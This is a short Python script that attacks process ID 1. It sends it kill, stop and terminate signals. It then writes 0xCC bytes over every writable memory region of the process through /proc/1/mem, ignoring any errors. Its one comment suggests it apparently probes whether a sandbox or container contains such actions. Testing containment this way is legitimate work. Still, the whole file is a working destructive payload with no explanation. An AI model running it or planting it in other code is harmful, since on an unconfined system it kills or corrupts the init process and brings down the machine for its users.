# The process that everything inside lives with is one of the same user: whatever it is made to do stays inside.
import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(1, number)
    except OSError:
        pass
try:
    memory = os.open("/proc/1/mem", os.O_RDWR)
    for line in open("/proc/1/maps"):
        if " rw" in line:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            try:
                os.pwrite(memory, b"\xcc" * (end - start), start)
            except OSError:
                pass
except OSError:
    pass
